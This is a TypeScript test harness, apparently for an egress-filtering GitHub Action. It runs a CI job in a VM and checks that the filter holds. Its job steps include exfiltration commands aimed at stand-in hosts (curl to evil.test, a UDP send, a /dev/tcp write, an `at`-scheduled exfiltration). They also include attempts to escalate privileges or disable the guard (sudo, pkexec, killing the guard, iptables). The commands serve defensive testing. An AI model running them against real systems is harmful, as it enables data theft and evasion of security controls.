/**
 * One whole job on a real machine, started in the guest as root: node test/vm/guest/job.ts. Writes what came of it to $OUT/result.json. The world, GitHub's
 * services included, is a network namespace behind the machine's only link.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Lab, WORLD } from '../../e2e/lab.ts';
import { ADDRESS, GITHUB, Job, type JobOptions, type JobResult } from '../../runner/runner.ts';
import { SystemdMachine } from './machine.ts';

/** result.json. */
export type GuestResult = Omit<JobResult, 'step'> & { facts: Facts };

/** What the guest tells, beside the job's own result. */
export interface Facts {
  /** `systemctl show` of the guard's unit while the job ran, by property. */
  unit: Record<string, string>;
  /** /proc/PID/cgroup of the guard. */
  cgroup: string;
  /** `systemctl is-system-running` after the job. */
  state: string;
  /** nat table after the job: it is never taken down on a hosted machine. */
  rules: string;
  /** Seconds from the machine's start of the runner to the job's end. */
  seconds: number;
}

const EXFILTRATION = `set +e
curl -sS --max-time 20 'https://evil.test/steal?data=hunter2'
curl -sSk --max-time 20 https://${WORLD.evil}/steal
curl -sSk --max-time 20 --resolve ok.test:443:${WORLD.evil} https://ok.test/led-astray
getent ahosts hunter3.evil.test
python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'data', ('${WORLD.evil}', 9999))"
timeout 10 bash -c 'echo data >/dev/tcp/${WORLD.evil}/9999'
echo "curl -sSk --max-time 20 https://${WORLD.evil}/steal-later" | at now 2>&1
true`;

/** Each road to root says \`locked\`; whoever gets through says \`open\`. */
const ROADS = `set +e
try() { name=$1; shift; if timeout 30 "$@" >/dev/null 2>&1 </dev/null; then echo "$name open"; else echo "$name locked"; fi; }
try sudo sudo -n true
try pkexec pkexec true
try systemd-run systemd-run --wait --quiet true
try unit systemctl stop egress-filter-job.service
guard=$(systemctl show -P MainPID egress-filter-job.service)
[ "$guard" -gt 1 ] && try kill kill -9 "$guard"
try iptables /usr/sbin/iptables -S
try log sh -c 'echo x >>$(ls -d /var/log/egress-filter/*/log.jsonl)'
try action touch $(ls -d /home/runner/work/_actions/owner/egress-filter/v1)/dist/x
true`;

/** Where every program takes long to start: less of each, and no package manager. */
const short: JobOptions = {
  action: { with: { policy: 'GET https://ok.test/npm/*\n' } },
  steps: [
    { name: 'allowed', run: 'curl -sS --max-time 60 https://ok.test/npm/wanted' },
    {
      name: 'exfiltration',
      run: `set +e
curl -sS --max-time 60 'https://evil.test/steal?data=hunter2'
curl -sSk --max-time 60 https://${WORLD.evil}/steal
timeout 20 bash -c 'echo data >/dev/tcp/${WORLD.evil}/9999'
sudo -n true || echo sudo locked`,
    },
  ],
};

const whole: JobOptions = {
  action: { with: { policy: 'GET https://ok.test/npm/*\n' } },
  workspace: { 'package.json': '{"name":"app","version":"1.0.0","dependencies":{"wanted":"^1.0.0"}}' },
  steps: [
    {
      name: 'install',
      run: 'npm install --registry https://ok.test/npm/ --no-audit --no-fund --no-update-notifier && node -p "require(\'wanted\')"',
    },
    { name: 'exfiltration', run: EXFILTRATION },
    { name: 'roads', run: ROADS },
  ],
};

/** A package in the world's registry. */
function publish(lab: Lab): void {
  const folder = mkdtempSync('/tmp/egf-package-');
  const manifest = { name: 'wanted', version: '1.0.0', main: 'index.js' };
  mkdirSync(join(folder, 'package'));
  writeFileSync(join(folder, 'package/package.json'), JSON.stringify(manifest));
  writeFileSync(join(folder, 'package/index.js'), "module.exports = 'from the registry';\n");
  execFileSync('tar', ['-czf', 'package.tgz', 'package'], { cwd: folder });
  lab.publish('wanted', '1.0.0', readFileSync(join(folder, 'package.tgz')), manifest);
}

/** Where scripts/node.mjs looks first: there is no way to a registry from here. */
function provideNode(): void {
  const cache = '/root/node';
  process.env.EGRESS_FILTER_NODE_CACHE = cache;
  mkdirSync(`${cache}/24-${process.arch}/package/bin`, { recursive: true });
  symlinkSync('/usr/local/bin/node', `${cache}/24-${process.arch}/package/bin/node`);
}

const say = (text: string): void => console.log(`${process.uptime().toFixed(1)} s: ${text}`);

provideNode();
const lab = await Lab.start({
  names: Object.fromEntries(Object.entries(GITHUB).map(([role, name]) => [name, ADDRESS[role as keyof typeof GITHUB]])),
});
publish(lab);
const machine = new SystemdMachine(lab);
say('the world and the machine are made');
const job = new Job(lab, machine, process.argv[2] === 'short' ? short : whole);
const started = performance.now();
await job.start();
say('the runner has its job');

// Looked for in files: a program every moment would take the processor from what it waits for.
const processes = '/sys/fs/cgroup/egress.slice/egress-filter.slice/egress-filter-job.service/cgroup.procs';
const isThere = (): true | undefined => (existsSync(processes) && readFileSync(processes, 'utf8') !== '' ? true : undefined);
const ended = (): true | undefined => machine.event('worker-ended') && true;
await machine.until('the unit of the guard', () => isThere() ?? ended());
const { stdout } = machine.inside(['systemctl', 'show', 'egress-filter-job.service', '-p', 'ActiveState,MainPID,Slice,ControlGroup']);
const unit = Object.fromEntries(
  stdout.split('\n').flatMap((line) => (line.includes('=') ? [line.split(/=(.*)/s, 2) as [string, string]] : [])),
);
const cgroup = isThere() ? readFileSync(`/proc/${unit.MainPID}/cgroup`, 'utf8') : '';
say('the guard runs');
const result = await job.completed();
const facts: Facts = {
  unit,
  cgroup,
  state: machine.inside(['systemctl', 'is-system-running']).stdout.trim(),
  rules: machine.inside(['iptables', '-t', 'nat', '-S']).stdout,
  seconds: (performance.now() - started) / 1000,
};
const told: GuestResult = { ...result, facts };
writeFileSync(join(process.env.OUT ?? '', 'result.json'), JSON.stringify(told));
say(`the job has ended: ${result.conclusion}`);
for (const { name, conclusion, startedAt, endedAt } of result.steps)
  say(`${name}: ${conclusion} in ${((endedAt - startedAt) / 1000).toFixed(1)} s`);
await lab.stop();
process.exit(0);
